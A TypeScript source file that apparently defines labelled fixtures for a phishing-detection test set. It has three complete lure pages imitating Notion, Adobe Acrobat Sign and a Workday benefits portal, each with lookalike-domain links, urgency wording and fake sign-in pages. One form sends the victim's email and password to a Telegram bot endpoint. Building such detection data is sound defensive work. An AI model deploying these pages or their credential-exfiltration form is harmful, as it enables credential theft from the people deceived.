import { htmlRoute, type Entry } from '../entry.js';
import { baseCss, doc } from '../parts/d-parts.js';
import { msLogin } from '../parts/d-lures.js';

export const entries: Entry[] = [

{
  id: 'd-lure-shared-doc-notion-like',
  label: 'phishing',
  kind: 'lure-shared-doc',
  url: 'https://www.notioned-share.site/Project-Brief-Q1-2026-4f8e1c7a',
  body: doc({
    title: 'Project Brief Q1 2026',
    css: `body{font-family:ui-sans-serif,-apple-system,"Segoe UI",Helvetica;margin:0;color:#37352f}.pg{max-width:720px;margin:80px auto}.call{background:#f1f1ef;border-radius:4px;padding:16px;display:flex;gap:12px}.call a{background:#2383e2;color:#fff;padding:8px 14px;border-radius:4px;text-decoration:none}`,
    body: `<div class="pg"><div style="font-size:64px">📄</div><h1>Project Brief — Q1 2026</h1><p>Shared by <b>Daniel Ortiz</b> (Finance)</p><div class="call"><span>🔒 This page contains a secured attachment: <b>Q1_Budget_Approval.pdf</b></span><a href="https://docview-secure.pdf-access-online.com/?doc=Q1_Budget_Approval">Open attachment</a></div><p>Please review before Monday's leadership meeting.</p></div>`,
  }),
  routes: {
    'docview-secure.pdf-access-online.com/': htmlRoute(msLogin('https://docview-secure.pdf-access-online.com/next.php', 'Verify your identity to open Q1_Budget_Approval.pdf')),
  },
},

{
  id: 'd-lure-esign-adobe-sign',
  label: 'phishing',
  kind: 'lure-esign',
  url: 'https://esign-requests.agreement-center.net/public/esignWidget?wid=CBFCIBAA3AAABLblqZhBQ',
  body: doc({
    title: 'Adobe Acrobat Sign',
    css: baseCss('#eb1000') + `body{background:#f5f5f5}.e{max-width:560px;margin:60px auto}`,
    body: `<div class="e card"><p style="font-weight:700;color:#eb1000">Adobe Acrobat Sign</p><h1 style="font-size:22px">Please review and sign: Employment_Contract_Amendment_2026.pdf</h1><p>Sent by HR Operations on behalf of your employer. This agreement expires in 2 days.</p><a class="btn" href="https://adobesign-view.docs-approval.org/login.php?agreement=CBFCIBAA3AAABLblqZhBQ">Review and sign</a><p class="muted">To ensure you continue receiving emails, add adobesign@adobesign.com to your address book.</p></div>`,
  }),
  routes: {
    'adobesign-view.docs-approval.org/login.php': htmlRoute(
      doc({
        title: 'Adobe ID',
        css: `body{font-family:adobe-clean,Arial;background:#f4f4f4}.x{max-width:440px;margin:60px auto;background:#fff;padding:40px;border-radius:4px}input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}button{background:#1473e6;color:#fff;border:0;border-radius:16px;padding:10px 24px}`,
        body: `<div class="x"><h2>Sign in</h2><p>Sign in with the email address this agreement was sent to.</p><form method="post" action="https://api.telegram.org/bot7001122334:AAGx-lZ0q9vN1rT5yW8zB3cE6fH2jK4mP7s/sendMessage"><input type="hidden" name="chat_id" value="-4412098855"><input name="text" type="email" placeholder="Email address"><input name="pw" type="password" placeholder="Password"><button>Continue</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'd-lure-hr-benefits-enrolment',
  label: 'phishing',
  kind: 'lure-hr',
  url: 'https://benefits-enrollment-2026.hrportal-notice.com/',
  body: doc({
    title: '2026 Open Enrollment — Action Required',
    css: baseCss('#0f766e') + `.w{max-width:640px;margin:40px auto}`,
    body: `<div class="w card"><h1 style="font-size:22px">Open Enrollment closes Friday</h1><p>Review your 2026 health, dental and 401(k) elections. Employees who do not confirm their elections will be defaulted to the basic plan and may lose their HSA employer contribution.</p><ul><li>Medical — PPO / HDHP</li><li>Dental &amp; Vision</li><li>Life insurance beneficiaries</li></ul><a class="btn" href="https://sso.workday-benefits-login.com/wday/authgwy/signin">Review my elections</a></div>`,
  }),
  routes: {
    'sso.workday-benefits-login.com/wday/authgwy/signin': htmlRoute(msLogin('/wday/authgwy/post', 'Sign in with your organisational account to continue to Workday.')),
  },
},

];
